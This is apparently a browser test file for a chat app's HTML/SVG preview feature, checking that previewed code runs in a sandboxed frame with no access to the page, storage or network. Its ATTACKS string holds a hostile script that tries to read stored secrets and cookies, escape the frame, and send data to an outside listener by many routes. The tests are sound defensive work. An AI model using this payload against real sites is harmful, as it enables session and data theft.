"""Previews of HTML and SVG: the code runs, and reaches neither the page, its storage nor the network."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from browsing import Listener, assert_accessible, send
from playwright.sync_api import FrameLocator, Page, expect
from scripted import ScriptedEngine, scripted_server

pytestmark = pytest.mark.browser


@pytest.fixture
def engine() -> ScriptedEngine:
    return ScriptedEngine(piece=200)


@pytest.fixture
def chat(page: Page, engine: ScriptedEngine) -> Iterator[Page]:
    page.expected_errors.append("sandboxed")  # type: ignore[attr-defined]  # our own scripts run in the frames, too
    with scripted_server(engine) as address:
        page.goto(address)
        page.evaluate("localStorage.setItem('secret', 'sesame')")
        yield page


def preview(page: Page, engine: ScriptedEngine, language: str, code: str) -> FrameLocator:
    """Let the model answer with code; return the frame of its preview."""
    engine.say = f"Here:\n\n```{language}\n{code}\n```\n"
    send(page, "Go")
    page.get_by_role("button", name="Preview").click()
    return page.frame_locator("iframe.preview").frame_locator("iframe")


def test_html_and_svg_are_shown(chat: Page, engine: ScriptedEngine) -> None:
    code = (
        "<h1>Hello</h1><script>document.body.append('computed ' + (6 * 7))</script>"
        "<style>h1 { color: rgb(1, 2, 3) }</style>"
    )
    shown = preview(chat, engine, "html", code)
    expect(shown.get_by_role("heading", name="Hello")).to_have_css("color", "rgb(1, 2, 3)")
    expect(shown.get_by_text("computed 42")).to_be_visible()
    assert_accessible(chat)
    button = chat.get_by_role("button", name="Preview")
    expect(button).to_have_attribute("aria-pressed", "true")
    button.click()
    expect(chat.locator("iframe")).to_have_count(0)
    chat.get_by_role("link", name="New chat").click()
    shown = preview(chat, engine, "svg", '<svg viewBox="0 0 9 9"><text y="5">drawn</text></svg>')
    expect(shown.get_by_text("drawn")).to_be_visible()


ATTACKS = """
<p id="found"></p>
<img src="%(out)s/img.png"><link rel="stylesheet" href="%(out)s/style.css"><script src="%(out)s/script.js"></script>
<style>@import "%(out)s/import.css"; p { background: url(%(out)s/background.png) }</style>
<iframe src="%(out)s/frame"></iframe><object data="%(out)s/object"></object><video src="%(out)s/video"></video>
<form id="form" action="%(out)s/form" method="post"><input name="a" value="b"></form>
<script>
const out = "%(out)s", here = "%(here)s";
const tries = {
  page: () => parent.parent.document.title, top: () => top.document.title, outer: () => parent.document.title,
  opener: () => opener.document, frame: () => frameElement.id, local: () => localStorage.getItem("secret"),
  session: () => sessionStorage.length, cookie: () => document.cookie, database: () => indexedDB.open("llamado").result,
  caches: () => caches.keys(), worker: () => navigator.serviceWorker.register("/sw.js"),
  fetch: () => fetch(out + "/fetch"), api: () => fetch(here + "/props").then((r) => r.text()),
  nocors: () => fetch(here + "/v1/models", {mode: "no-cors"}), socket: () => new Promise((done, fail) => {
    const socket = new WebSocket(out.replace("http", "ws")); socket.onopen = done; socket.onerror = fail; }),
  request: () => new Promise((done, fail) => { const r = new XMLHttpRequest(); r.open("GET", out + "/xhr");
    r.onload = done; r.onerror = fail; r.send(); }),
  module: () => import(out + "/module.js"), thread: () => new Promise((done, fail) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); worker.onmessage = done;
    worker.onerror = fail; }),
  picture: () => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail;
    i.src = out + "/image.png"; }),
  popup: () => window.open(out + "/popup").closed, evaluate: () => eval("1"),
  leave: () => { top.location = out + "/top"; throw 0; },
  outerLeave: () => { parent.location = out + "/parent"; throw 0; },
};
navigator.sendBeacon(out + "/beacon");
form.submit();
(async () => {
  const reached = [];
  for (const [name, run] of Object.entries(tries)) {
    try { await run(); reached.push(name); } catch { }
  }
  found.textContent = "reached: " + (reached.join(" ") || "nothing") + ", origin " + self.origin;
})();
</script>
"""


def test_a_previewed_script_reaches_nothing(chat: Page, engine: ScriptedEngine, listener: Listener) -> None:
    chat.expected_errors.append(".")  # type: ignore[attr-defined]  # the browser reports what it blocks
    here = chat.url.split("/#")[0].rstrip("/")
    shown = preview(chat, engine, "html", ATTACKS % {"out": listener.address, "here": here})
    expect(shown.locator("#found")).to_have_text("reached: nothing, origin null")
    assert not listener.seen and chat.url.startswith(here) and len(chat.context.pages) == 1


@pytest.mark.parametrize("target", ["out", "here"])
def test_a_previewed_script_cannot_leave_its_frame(
    chat: Page, engine: ScriptedEngine, listener: Listener, target: str
) -> None:
    """A navigation would be a request, with data of its choice in the URL: to another server, or to this one's API."""
    chat.expected_errors.append(".")  # type: ignore[attr-defined]
    here = chat.url.split("/#")[0].rstrip("/")
    goal = f"{listener.address if target == 'out' else here}/left?data=1"
    shown = preview(chat, engine, "html", f"<p>begin</p><script>location = {goal!r}</script>")
    # The frame shows the browser's own error, which has no text of ours.
    expect(shown.get_by_text("begin")).to_have_count(0)
    assert not listener.seen
    inner = [frame.url for frame in chat.frames if frame.parent_frame and frame.parent_frame != chat.main_frame]
    assert not any("left?" in url and not url.startswith("chrome-error:") for url in inner), inner


def test_the_frame_alone_has_no_origin(page: Page) -> None:
    """Opened by itself, for example from a link, it shows nothing and shares nothing with the page."""
    page.expected_errors.append("sandboxed")  # type: ignore[attr-defined]
    with scripted_server(ScriptedEngine()) as address:
        page.goto(f"{address}/preview.html")
        assert page.evaluate("self.origin") == "null"
        page.evaluate("postMessage('<p>injected</p>', '*')")
        page.evaluate("() => new Promise((done) => setTimeout(done))")
        assert page.locator("iframe").count() == 0
        assert re.search(
            "SecurityError",
            page.evaluate("(() => { try { return localStorage.length } catch (e) { return e.name } })()"),
        )
